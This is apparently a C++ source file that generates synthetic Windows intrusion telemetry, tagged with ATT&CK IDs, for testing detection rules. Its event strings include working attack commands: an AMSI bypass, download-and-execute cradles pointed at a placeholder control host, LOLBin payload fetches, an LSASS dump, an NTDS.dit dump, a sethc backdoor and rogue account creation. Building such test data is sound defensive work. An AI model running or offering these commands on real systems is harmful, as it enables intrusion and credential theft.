// SPDX-License-Identifier: Apache-2.0
#include "core/world/intrusion_steps.h"

#include "core/world/base64.h"

namespace rulewright::world {

namespace {

constexpr std::string_view noModule = "UNKNOWN(000001F24C3A0DE4)";
constexpr std::string_view debugPrivileges = "SeTcbPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege";

/// PsExec's way onto another machine: a copied service, its pipe, a shell of SYSTEM.
Process runRemotely(Intrusion& at, const Desk& server)
{
    at.r.setAttack({"T1021.002", "T1569.002"});
    const Process system = at.r.kernel(server.morning - 2 * hour, server.session.host);
    at.r.createFile(at.soon(), system, "C:\\Windows\\PSEXESVC.exe");
    at.r.installService(at.soon(), server.services.session, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    const Process service
        = at.r.start(at.soon(), server.services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe");
    at.r.createPipe(at.soon(), service, "\\PSEXESVC");
    at.r.connectPipe(at.soon(), system, "\\PSEXESVC-LARK-WS02-5120-stdin");
    return at.run(service, "cmd.exe", "\"cmd.exe\"");
}

} // namespace

void hideInProcesses(Intrusion& at, const Desk& desk, const Process& loader, const Process& office)
{
    at.r.setAttack({"T1047", "T1204.002"});
    at.r.loadImage(at.soon(), office, "C:\\Windows\\System32\\wbem\\wbemdisp.dll", "Microsoft Windows");
    at.r.setAttack({"T1685"});
    at.r.runScript(at.soon(), loader,
        "$t=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');"
        "$t.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)");
    at.r.setAttack({"T1059.001", "T1105"});
    at.r.runScript(at.soon(), loader,
        std::format("IEX (New-Object Net.WebClient).DownloadString('https://{}/stage2')", at.controlName));
    at.r.runCommand(at.soon(), loader, "Invoke-WebRequest",
        std::format("ParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://{}/{}.bin\"", at.controlAddress,
            at.fileName));
    at.r.setAttack({"T1055"});
    at.r.access(at.soon(), loader, desk.explorer, "0x1fffff", noModule);
    at.r.startThread(at.soon(), loader, desk.explorer, "");
    at.r.createPipe(at.soon(), desk.explorer, std::format("\\MSSE-{}-server", at.time / second % 10'000));
    at.r.setAttack({"T1574.001"});
    const Process copy = at.r.start(
        at.soon(), loader, "C:\\Users\\Public\\Libraries\\OneDrive.exe", "C:\\Users\\Public\\Libraries\\OneDrive.exe");
    at.r.loadImage(at.soon(), copy, "C:\\Users\\Public\\Libraries\\version.dll", "");
}

void readCredentials(Intrusion& at, const Desk& desk, const Process& loader, const Process& dumper)
{
    at.r.setAttack({"T1003.001"});
    at.r.loadImage(at.soon(), dumper, "C:\\Windows\\System32\\comsvcs.dll", "Microsoft Windows");
    at.r.access(at.soon(), dumper, desk.lsass, "0x1fffff", "C:\\Windows\\System32\\comsvcs.dll+2e81a");
    at.r.access(at.soon(), loader, desk.lsass, "0x1010", noModule);
    at.r.setAttack({"T1003.001", "T1055"});
    at.r.startThread(at.soon(), loader, desk.lsass, "");
}

void proxyThroughSystem(Intrusion& at, const Desk& desk, const Process& loader)
{
    at.r.setAttack({"T1218.005"});
    const Process page = at.run(loader, "mshta.exe", std::format("mshta.exe http://{}/u.hta", at.controlName));
    at.r.query(at.soon(), page, at.controlName, at.controlAddress);
    at.r.setAttack({"T1218.010"});
    static_cast<void>(at.run(
        loader, "regsvr32.exe", std::format("regsvr32.exe /s /n /u /i:http://{}/c.sct scrobj.dll", at.controlName)));
    at.r.setAttack({"T1197", "T1105"});
    static_cast<void>(at.run(loader, "bitsadmin.exe",
        std::format("bitsadmin /transfer {0} /download http://{1}/{0}.exe C:\\Users\\Public\\{0}.exe", at.fileName,
            at.controlAddress)));
    at.r.setAttack({"T1090.001"});
    const Process shell = at.run(loader, "netsh.exe",
        std::format("netsh interface portproxy add v4tov4 listenport=9443 connectaddress={} connectport=443",
            at.controlAddress));
    at.r.setValue(at.soon(), shell, "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/9443",
        std::format("{}/443", at.controlAddress));
    at.r.setAttack({"T1572"});
    at.r.query(at.soon(), loader, "calm-oak-ridge.trycloudflare.com", "192.0.2.73");
    at.r.query(at.soon(), loader, "tunnel.eu.ngrok.com", "192.0.2.74");
    at.r.setAttack({"T1546.008"});
    static_cast<void>(at.run(loader, "reg.exe",
        "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" "
        "/v Debugger /d C:\\Windows\\System32\\cmd.exe /f"));
    at.r.setValue(at.soon(), desk.services,
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
        "C:\\Windows\\System32\\cmd.exe");
}

void exploreDomain(Intrusion& at, const Process& loader)
{
    at.r.setAttack({"T1482"});
    static_cast<void>(at.run(loader, "nltest.exe", "nltest /domain_trusts /all_trusts"));
    at.r.setAttack({"T1069.002"});
    static_cast<void>(at.run(loader, "net.exe", "net group \"Enterprise Admins\" /domain"));
}

void installRustDesk(Intrusion& at, const Desk& desk)
{
    at.r.setAttack({"T1219", "T1219.002"});
    const Process shell = at.run(desk.explorer, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    const std::string tool = "C:\\ProgramData\\rd\\rustdesk.exe";
    const Process process = at.r.start(at.soon(), shell, tool, std::format("{} --silent-install", tool));
    at.r.createPipe(at.soon(), process, "\\RustDesk\\query_service");
    at.r.changeKey(at.soon(), desk.services, "CreateKey", std::format("{}RustDesk", servicesKey));
    at.r.installService(at.soon(), desk.services.session, "RustDesk", std::format("\"{}\" --service", tool));
    at.r.setAttack({"T1219", "T1219.002"});
    at.r.query(at.soon(), process, "rs-ny.rustdesk.com", at.relayAddress);
    at.r.connect(at.soon(), process, at.relayAddress, "rs-ny.rustdesk.com", 21116);
}

void moveToServers(Intrusion& at, const Desk& from, const Desk& server, const Desk& controller, const Process& loader)
{
    at.r.setAttack({"T1110.003"});
    for (const std::string_view name : {"administrator", "backup", "p.nakata", "r.achebe", "svc_backup", "scanner"})
        at.r.failLogOn(at.soon(), controller.session.host, name, 3, at.controlAddress, "0xc000006a");
    at.r.setAttack({"T1078.002"});
    at.r.useCredentials(at.soon(), loader, backupUser, "LARK-SRV2");
    const Session taken = at.r.newSession(server.session.host, backupUser);
    at.r.logOn(at.soon(), {.session = taken, .type = 3, .address = std::string(host(from.session.host).address)});
    at.r.grantPrivileges(at.time + 400, taken, debugPrivileges);
    at.r.setAttack({"T1047"});
    static_cast<void>(at.run(
        loader, "wbem\\WMIC.exe", "wmic /node:LARK-SRV2 process call create \"cmd.exe /c whoami > C:\\PerfLogs\\o\""));
    const Process remote = runRemotely(at, server);
    at.r.setAttack({"T1543.003"});
    at.r.installService(
        at.soon(), server.services.session, at.fileName, std::format("C:\\Users\\Public\\{}.exe -k", at.fileName));
    at.r.installService(at.soon(), server.services.session, "winmgr",
        std::format("%COMSPEC% /c powershell.exe -nop -enc {}", base64OfUtf16("iex $env:w")));
    at.r.setAttack({"T1021.006"});
    at.r.runCommand(at.soon(), loader, "Invoke-Command",
        std::format("ParameterBinding(Invoke-Command): name=\"ScriptBlock\"; value=\"IEX (New-Object "
                    "Net.WebClient).DownloadString('http://{}/c')\"",
            at.controlAddress));
    const Process plugin
        = at.run(controller.netServices, "wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding");
    const Process shell = at.run(plugin, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /c hostname");
    at.r.setAttack({"T1003.003"});
    static_cast<void>(
        at.run(shell, "ntdsutil.exe", "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\PerfLogs\\ifm\" q q"));
    at.r.setAttack({"T1136.002"});
    at.r.createAccount(at.soon(),
        {.host = controller.session.host, .user = backupUser, .logonId = taken.logonId + 0x51}, "support_365",
        "Support");
    at.r.setAttack({"T1070.007"});
    at.r.changeKey(at.soon(), remote, "DeleteKey",
        std::format("HKU\\{}\\SOFTWARE\\Microsoft\\Terminal Server Client\\Servers\\LARK-DC1", securityId(backupUser)));
}

} // namespace rulewright::world
